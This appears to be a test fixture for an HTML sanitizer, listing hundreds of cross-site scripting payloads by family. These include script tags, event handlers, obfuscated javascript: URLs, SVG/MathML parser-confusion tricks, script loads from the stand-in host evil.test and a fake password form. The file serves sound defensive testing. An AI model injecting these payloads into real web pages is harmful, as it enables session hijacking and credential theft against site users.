const X = 'alert(1)'
const TABLED = 'table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">'

/** Attacks by family. Written for these tests after the publicly known families; each is one body of content. */
export const FAMILIES: Record<string, string[]> = {
  script: [
    `<script>${X}</script>`, `<SCRIPT>${X}</SCRIPT>`, `<ScRiPt>${X}</sCrIpT>`, `<script src=//evil.test/x.js></script>`, `<script src="data:text/javascript,${X}"></script>`,
    `<script\n>${X}</script\n>`, `<script/x>${X}</script>`, `<script\t src=//evil.test></script>`, `<script>${X}`, `<script src=//evil.test/x.js`,
    `<<script>${X}//<</script>`, `<scr<script>ipt>${X}</scr</script>ipt>`, `<p><script>${X}</script>after</p>`, `<script type=module>import "//evil.test"</script>`,
    `<script type="text/vbscript">MsgBox 1</script>`, `<script async src=//evil.test></script x>`, `</script><script>${X}</script>`, `<script><!--\n${X}\n--></script>`,
    `<script>"</script><img src=x onerror=${X}>"`, `<script\f>${X}</script>`, `<script nonce="">${X}</script>`, `<script type=speculationrules>{"prerender":[{"urls":["//evil.test"]}]}</script>`,
  ],
  handlers: [
    `<img src=x onerror=${X}>`, `<img src=x OnErRoR=${X}>`, `<img src=x onerror="${X}"//`, `<img/src=x/onerror=${X}>`, `<img src="x"onerror="${X}">`, `<img\nsrc=x\nonerror\n=\n${X}>`,
    `<body onload=${X}>`, `<body onpageshow=${X}>text`, `<body onhashchange=${X}><a href=#>x</a>`, `<div onclick=${X}>x</div>`, `<p onmouseover=${X}>x</p>`, `<a onmouseenter=${X} href=https://ok.test>x</a>`,
    `<b onpointerover=${X}>x</b>`, `<span tabindex=0 autofocus onfocus=${X}>x</span>`, `<div contenteditable onblur=${X}>x</div>`, `<h2 onwheel=${X}>x</h2>`, `<ul><li onclick=${X}>x</li></ul>`,
    `<table onclick=${X}><tr onclick=${X}><td onclick=${X}>x</td></tr></table>`, `<td onmouseover=${X}>x`, `<ol onscroll=${X}><li>x</ol>`, `<blockquote onselectstart=${X}>x</blockquote>`,
    `<details open ontoggle=${X}><summary>x</summary></details>`, `<marquee onstart=${X}>x</marquee>`, `<marquee loop=1 onfinish=${X}>x</marquee>`, `<div onbeforeinput=${X} contenteditable>x</div>`,
    `<div popover id=x onbeforetoggle=${X}>x</div>`, `<div style="animation:x" onanimationstart=${X}>x</div>`, `<p style="transition:all 1s" ontransitionend=${X}>x</p>`, `<div oncontentvisibilityautostatechange=${X} style=content-visibility:auto>x`,
    `<pre onscrollend=${X}>x</pre>`, `<dl><dt oncopy=${X}>x<dd oncut=${X}>y</dl>`, `<figure onpaste=${X}><figcaption ondrag=${X}>x</figcaption></figure>`, `<q onauxclick=${X}>x</q>`, `<hr onclick=${X}>`, `<br onclick=${X}>`,
    `<xss onclick=${X}>x</xss>`, `<x-y onfocus=${X} tabindex=1 id=x>x</x-y>`, `<image src=x onerror=${X}>`, `<img src=x onload\0error=${X}>`, `<img src onerror\x0b=${X}>`, `<img src=x on\0error=${X}>`, `<p/onclick=${X}/>x`,
  ],
  addresses: [
    `<a href="javascript:${X}">x</a>`, `<a href="JaVaScRiPt:${X}">x</a>`, `<a href=" javascript:${X}">x</a>`, `<a href="java\tscript:${X}">x</a>`, `<a href="java\nscript:${X}">x</a>`, `<a href="java\rscript:${X}">x</a>`,
    `<a href="\x01javascript:${X}">x</a>`, `<a href="java\0script:${X}">x</a>`, `<a href="javascript\t:${X}">x</a>`, `<a href="&#106;avascript:${X}">x</a>`, `<a href="&#x6A;avascript:${X}">x</a>`,
    `<a href="&#0000106&#0000097vascript:${X}">x</a>`, `<a href="javascript&colon;${X}">x</a>`, `<a href="java&Tab;script:${X}">x</a>`, `<a href="java&NewLine;script:${X}">x</a>`, `<a href="javascript&#58;${X}">x</a>`,
    `<a href="&#14; javascript:${X}">x</a>`, `<a href="\u3000javascript:${X}">x</a>`, `<a href="\u200bjavascript:${X}">x</a>`, `<a href="java\u00adscript:${X}">x</a>`, `<a href="\ufeffjavascript:${X}">x</a>`, `<a href="\u2028javascript:${X}">x</a>`,
    `<a href="java%0ascript:${X}">x</a>`, `<a href="java&#x0A;script:${X}">x</a>`, `<a href="ｊavascript:${X}">x</a>`, `<a href="javaſcript:${X}">x</a>`, `<a href="javascript://ok.test/%0a${X}">x</a>`, `<a href="javascript:/*--></script>*/${X}">x</a>`,
    `<a href='javascript:${X}'>x</a>`, `<a href=javascript:${X}>x</a>`, `<a href=\`javascript:${X}\`>x</a>`, `<a\nhref\n=\n"javascript:${X}">x</a>`, `<a href="data:text/html,<script>${X}</script>">x</a>`, `<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>`,
    `<a href="DATA:image/svg+xml,<svg onload=${X}>">x</a>`, `<a href="vbscript:MsgBox(1)">x</a>`, `<a href="vb&Tab;script:MsgBox(1)">x</a>`, `<a href="livescript:${X}">x</a>`, `<a href="feed:javascript:${X}">x</a>`, `<a href="view-source:javascript:${X}">x</a>`,
    `<a href="blob:https://ok.test/1">x</a>`, `<a href="filesystem:https://ok.test/x">x</a>`, `<a href="file:///etc/passwd">x</a>`, `<a href="jar:https://ok.test!/x">x</a>`, `<a href="intent://x#Intent;end">x</a>`, `<a href="ftp://ok.test/x">x</a>`,
    `<a href="./javascript:${X}">x</a>`, `<a href="/javascript:${X}">x</a>`, `<a href="a/../javascript:${X}">x</a>`, `<a href="/.//evil.test">x</a>`, `<a href="\\\\evil.test">x</a>`, `<a href="/\\evil.test">x</a>`, `<a href="https:evil.test">x</a>`,
    `<a href="https://ok.test@evil.test/">x</a>`, `<a href="https://site.invalid/x">x</a>`, `<a href="#x" target=_top>x</a>`, `<a href="#/x//" ping=//evil.test>x</a>`, `<a href="http://[::1">x</a>`, `<a href="//evil.test" rel=opener target=x>x</a>`,
    `<img src="javascript:${X}">`, `<img src="data:image/svg+xml,<svg onload=${X}>">`, `<img src="mailto:x@y.test">`, `<img src=vbscript:x>`, `<img src=x srcset="javascript:${X}">`, `<img lowsrc=javascript:${X}>`, `<img dynsrc=javascript:${X}>`,
    `<img src="blob:https://ok.test/1">`, `<img src="#x">`, `<body background="javascript:${X}">`, `<table background=javascript:${X}><td background=javascript:${X}>x</table>`, `<blockquote cite="javascript:${X}">x</blockquote>`, `<q cite="javascript:${X}">x</q>`,
    `<a href=https://ok.test/ href=javascript:${X}>x</a>`, `<a HREF=javascript:${X}>x</a>`, `<a href="javascript:${X}" HREF=https://ok.test/>x</a>`, `<a href="&#38;#106;avascript:${X}">x</a>`, `<a href="\x7fjavascript:${X}">x</a>`, `<a href="\x85javascript:${X}">x</a>`,
  ],
  foreign: [
    `<svg onload=${X}>`, `<svg/onload=${X}>`, `<svg><script>${X}</script></svg>`, `<svg><script href="data:,${X}"/></svg>`, `<svg><script xlink:href="data:,${X}"></script></svg>`, `<svg><a xlink:href="javascript:${X}"><text>x</text></a></svg>`,
    `<svg><animate onbegin=${X} attributeName=x dur=1s>`, `<svg><a><animate attributeName=href values="javascript:${X}"/><text>x</text></a></svg>`, `<svg><set attributeName=onmouseover to=${X}></svg>`, `<svg><use href="data:image/svg+xml,<svg id=x onload=${X}>#x"/></svg>`,
    `<svg><use xlink:href="//evil.test/x.svg#x"/></svg>`, `<svg><foreignObject><img src=x onerror=${X}></foreignObject></svg>`, `<svg><image href="javascript:${X}"/></svg>`, `<svg><style>@import "//evil.test"</style></svg>`, `<svg><desc><img src=x onerror=${X}></desc></svg>`,
    `<svg><title><img src=x onerror=${X}></title></svg>`, `<svg></p><style><a id="</style><img src=1 onerror=${X}>">`, `<svg><p><style><g title="</style><img src=x onerror=${X}>">`, `<svg><![CDATA[><img src=x onerror=${X}>]]></svg>`, `<svg><!--</svg><img src=x onerror=${X}>-->`,
    `<SVG ONLOAD=${X}>`, `<svg:script>${X}</svg:script>`, `<svg><handler xmlns:ev="x" ev:event=load>${X}</handler></svg>`, `<svg><discard onbegin=${X}>`, `<svg><feImage href=//evil.test></svg>`, `<svg><animateTransform onbegin=${X}></svg>`, `<svg xmlns="x" onload=${X}/>`,
    `<math><a href="javascript:${X}">x</a></math>`, `<math href="javascript:${X}">x</math>`, `<math><maction actiontype=statusline xlink:href="javascript:${X}">x</maction></math>`, `<math><annotation-xml encoding="text/html"><img src=x onerror=${X}></annotation-xml></math>`,
    `<math><mtext><${TABLED}`, `<math><mi><${TABLED}`, `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${X}></style></mglyph></form></mtext></math>`, `<math><mtext><option><FAKEFAKE><option></option><mglyph><svg><mtext><style><a title="</style><img src onerror=${X}>">`,
    `<math><annotation-xml encoding=text/html><style><!--</style><a title="--><img src onerror=${X}>">`, `<svg><mtext><table><mglyph><style><img title="</style><img src onerror=${X}>">`, `<mtext><table><mglyph><style><img src=x onerror=${X}></style>`, `<mglyph><svg><script>${X}</script>`, `<foreignObject><svg><img onerror=${X} src=x></svg>`,
  ],
  raw: [
    `<noscript><p title="</noscript><img src=x onerror=${X}>">`, `<noscript><style></noscript><img src=x onerror=${X}></style>`, `<style><img src="</style><img src=x onerror=${X}//">`, `<style>@import 'javascript:${X}';</style>`, `<style>*{background:url(//evil.test)}</style>`,
    `<title><p title="</title><img src=x onerror=${X}>">`, `<textarea></textarea><img src=x onerror=${X}></textarea>`, `<textarea><p title="</textarea><img src=x onerror=${X}>">`, `<xmp><p title="</xmp><img src=x onerror=${X}>">`, `<noembed><p title="</noembed><img src=x onerror=${X}>">`,
    `<noframes><p title="</noframes><img src=x onerror=${X}>">`, `<iframe><p title="</iframe><img src=x onerror=${X}>">`, `<plaintext><img src=x onerror=${X}>`, `<template><img src=x onerror=${X}></template>`, `<template shadowrootmode=open><script>${X}</script></template>`, `<template><template></template><s>x<script>${X}</script>`,
    `<!--><img src=x onerror=${X}>-->`, `<!--<img src="--><img src=x onerror=${X}//">`, `<!-- --!><img src=x onerror=${X}>`, `<!---><img src=x onerror=${X}>`, `<!--[if gte IE 4]><script>${X}</script><![endif]-->`, `<![CDATA[<img src=x onerror=${X}>]]>`, `<![CDATA[><img src=x onerror=${X}>`,
    `<!doctype x [<!entity e "<script>${X}</script>">]>&e;`, `<?xml-stylesheet href="javascript:${X}"?>`, `<?php echo '<img src=x onerror=${X}>'?>`, `<!-- unclosed <img src=x onerror=${X}>`, `</p/><img src=x onerror=${X}>`, `<%<img src=x onerror=${X}>%>`, `<!x><img src=x onerror=${X}>`,
    `<select><style></select><img src=x onerror=${X}></style>`, `<select><option><script>${X}</script></select>`, `<select><template><img src=x onerror=${X}></template></select>`, `<listing>&lt;img src=x onerror=${X}&gt;</listing><img src=x onerror=${X}>`,
  ],
  embedded: [
    `<iframe src="javascript:${X}"></iframe>`, `<iframe srcdoc="<script>${X}</script>"></iframe>`, `<iframe srcdoc="&lt;img src=x onerror=${X}&gt;">`, `<iframe src=//evil.test sandbox=allow-scripts>`, `<frameset onload=${X}><frame src="javascript:${X}">`, `<object data="javascript:${X}"></object>`,
    `<object data="data:text/html,<script>${X}</script>">`, `<object type=text/x-scriptlet data=//evil.test></object>`, `<object><param name=src value="javascript:${X}"><img src=x onerror=${X}></object>`, `<embed src="javascript:${X}">`, `<embed code=//evil.test/x.swf allowscriptaccess=always>`, `<applet code=X archive=//evil.test>`,
    `<base href="javascript:${X}//">`, `<base href=//evil.test><a href=x>x</a>`, `<meta http-equiv=refresh content="0;url=javascript:${X}">`, `<meta http-equiv="refresh" content="0;url=data:text/html,<script>${X}</script>">`, `<meta http-equiv=Content-Security-Policy content="script-src *">`, `<meta charset=utf-7>+ADw-script+AD4-`,
    `<link rel=stylesheet href="javascript:${X}">`, `<link rel=import href=//evil.test>`, `<link rel=prefetch href=//evil.test onload=${X}>`, `<video><source onerror=${X}></video>`, `<video src=x onerror=${X}>`, `<video poster=javascript:${X}></video>`, `<audio src=x onerror=${X}>`, `<audio autoplay onplay=${X}><source src=x></audio>`,
    `<canvas id=x onclick=${X}>x</canvas>`, `<portal src=//evil.test onload=${X}>`, `<picture><source srcset=x onerror=${X}><img src=x onerror=${X}></picture>`, `<map name=x><area href="javascript:${X}" shape=default></map><img src=x usemap=#x>`, `<bgsound src="javascript:${X}">`, `<layer src=//evil.test></layer>`, `<track default oncuechange=${X}>`, `<fencedframe src=//evil.test></fencedframe>`,
  ],
  controls: [
    `<form action="javascript:${X}"><input type=submit></form>`, `<form><button formaction="javascript:${X}">x</button></form>`, `<input autofocus onfocus=${X}>`, `<input type=image src=x onerror=${X}>`, `<input type=image formaction="javascript:${X}">`, `<input type=hidden accesskey=x onclick=${X}>`, `<button onclick=${X}>x</button>`,
    `<select autofocus onfocus=${X}></select>`, `<textarea autofocus onfocus=${X}>x</textarea>`, `<keygen autofocus onfocus=${X}>`, `<isindex action=javascript:${X} type=image>`, `<form id=x></form><button form=x formaction="javascript:${X}">x</button>`, `<button popovertarget=x>x</button><p popover id=x>y`, `<form action=//evil.test><input name=password><p>log in`,
    `<output onclick=${X}>x</output>`, `<label for=x onclick=${X}>x</label>`, `<fieldset onfocusin=${X}><legend onclick=${X}>x</legend></fieldset>`, `<dialog open onclose=${X}>x</dialog>`, `<meter onmouseover=${X}>0</meter>`, `<datalist><option onclick=${X}>x</datalist>`, `<button command=--x commandfor=y>x</button>`,
  ],
  style: [
    `<p style="background:url(javascript:${X})">x</p>`, `<div style="width:expression(${X})">x</div>`, `<div style="-moz-binding:url(//evil.test/x.xml#x)">x</div>`, `<div style="behavior:url(x.htc)">x</div>`, `<p style="position:fixed;inset:0;z-index:9999">x</p>`, `<a style="display:block;position:fixed;inset:0" href=//evil.test>x</a>`,
    `<p class="vh MuiButton-root">x</p>`, `<div style="background:\\75rl(//evil.test)">x</div>`, `<xss style="xss:expr/*x*/ession(${X})">x</xss>`, `<font style="color:expression(${X})" color=red onclick=${X}>x</font>`, `<b style=x:y;content:attr(x) data-x=1>x</b>`, `<span style='--x:url("//evil.test")'>x</span>`,
  ],
  clobbering: [
    `<img name=getElementById src=x>`, `<a id=location href=https://ok.test>x</a>`, `<form id=document><input name=cookie></form>`, `<a id=x><a id=x name=y href=https://ok.test>z</a>`, `<img id=currentScript name=body src=x>`, `<p id=root>x</p>`, `<div id=__proto__ name=constructor>x</div>`, `<form name=body><input id=attributes></form>`,
    `<p __proto__=x id=__proto__>x</p>`, `<p constructor=x prototype=y>x</p>`, `<p tostring=x valueof=y hasownproperty=z>x</p>`, `<__proto__>x</__proto__>`, `<constructor onclick=${X}>x</constructor>`, `<tostring>x</tostring>`, `<p dangerouslySetInnerHTML="{__html:1}" key=x ref=y children=z>x</p>`, `<p is=x-y slot=z part=w>x</p>`,
    `<p xmlns:x=y x:href="javascript:${X}" xlink:href="javascript:${X}">x</p>`, `<p data-x=1 data-bind="${X}" ng-app v-html=x>{{constructor.constructor('${X}')()}}</p>`, `<p suppressHydrationWarning=1 innerHTML="<img src=x onerror=${X}>">x</p>`, `<a href=https://ok.test download onclick=${X} referrerpolicy=unsafe-url>x</a>`, `<p accesskey=x nonce=y hidden inert itemscope>x</p>`,
  ],
  broken: [
    `<img src="x" alt="\`onerror=${X}\`"onerror=${X}`, `<img """><script>${X}</script>">`, `<img src=\`x\` onerror=\`${X}\`>`, `<a href="https://ok.test/"onclick=${X}"">x</a>`, `<p title='"><img src=x onerror=${X}>'>x</p>`, `<abbr title="</abbr><img src=x onerror=${X}>" id=x>x</abbr>`, `<img alt="<x" title="/><img src=x onerror=${X}>">`,
    `<img alt="--><script>${X}</script>" src=x id=y>`, `<a href="https://ok.test/?<script>${X}</script>" id=x>x</a>`, `<p lang="'><script>" class=x>x</p>`, `<ol start="1 onclick=${X}" type=x><li value=x>x</ol>`, `<td colspan="1;${X}" headers=x>x</td>`, `<img width="1e3" height="javascript:1" src=x border=1>`, `<th scope="col onclick" abbr=x>x</th>`,
    `<\0script>${X}</script><img src=x onerror=${X}>`, `<s\0cript>${X}</s\0cript><p onclick=${X}>x`, `<ſcript>${X}</ſcript><i onclick=${X}>`, `<ıframe src=x onload=${X}><p onclick=${X}>x`, `\ufeff<script>${X}</script>`, `<a><b><a><p><a href=javascript:${X}><table><a onclick=${X}>x`, `<p =onclick=${X} "='>' onclick=${X}>x</p>`,
    `<div${' '.repeat(5000)}onclick=${X}>x</div>`, `<a href="${'\t'.repeat(3000)}javascript:${X}">x</a>`, `<a href="https://ok.test/${'x'.repeat(100_000)}" onclick=${X}>x</a>`, `<p ${'a'.repeat(100_000)}=1>x</p>`, `<p title="${'&lt;'.repeat(10_000)}">x</p>`, `<p ${Array.from({ length: 5000 }, (_, index) => `on${index}=x`).join(' ')}>x</p>`,
    `${'<div>'.repeat(3000)}<img src=x onerror=${X}>`, `${'<b><p>'.repeat(400)}<script>${X}</script>x`, `${'<table><tr><td>'.repeat(300)}<img src=x onerror=${X}>`, `${'<svg><desc>'.repeat(300)}<img src=x onerror=${X}>`, `${'<a href=javascript:1>'.repeat(500)}x`, `${'<ul><li onclick=x>'.repeat(200)}<iframe src=//evil.test>`,
  ],
}

/** Attacks that are none until somebody decodes twice: they are shown as what they say. */
export const HARMLESS: string[] = [
  '&lt;script&gt;alert(1)&lt;/script&gt;', '&amp;lt;img src=x onerror=alert(1)&amp;gt;', '&#60;script&#62;alert(1)&#60;/script&#62;', '\\u003cscript\\u003ealert(1)', '%3Cscript%3Ealert(1)%3C/script%3E',
  '+ADw-script+AD4-alert(1)', '< script>alert(1)</ script>', "javascript:alert(1)", '{{7*7}} ${7*7} <%= 7*7 %>', '\uff1cscript\uff1ealert(1)',
]
